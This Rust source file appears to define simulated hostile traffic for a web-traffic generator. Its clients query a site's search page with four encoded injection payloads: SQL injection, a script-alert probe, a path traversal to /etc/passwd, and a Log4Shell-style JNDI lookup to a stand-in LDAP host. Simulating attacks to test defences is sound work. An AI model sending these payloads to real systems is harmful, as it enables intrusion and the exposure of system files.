//! Injection into the search of a site that has none, one or three requests.

use super::super::*;

pub(super) const DOCS_CGI_INJECTION: Population = Population {
    name: "docs-cgi-injection",
    hostile: true,
    description: say::it,
    actors: |plan, numbers| {
        let crowd = Crowd { number: 135, members: 16, spread: 3000.0, turns: (1, 3), pause: 15.0, ..CROWD };
        crowd.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, LATELY);
            Box::new(move |at, rng, send| {
                let attack = pick(
                    rng,
                    &[
                        "1%27%20OR%20%271%27=%271",
                        "%3Cscript%3Ealert(1)%3C/script%3E",
                        "..%2f..%2f..%2fetc%2fpasswd",
                        "%24%7Bjndi:ldap://x/a%7D",
                    ],
                );
                Asked::get(client, agent, &format!("/search.html?q={attack}")).at(at, rng, send);
            })
        })
    },
};

mod say {
    crate::text::words! {
        it { en: "Injection into the search of a site that has none, one or three requests.", ko: "검색 기능이 없는 사이트의 검색에 주입, 한두 요청." }
    }
}
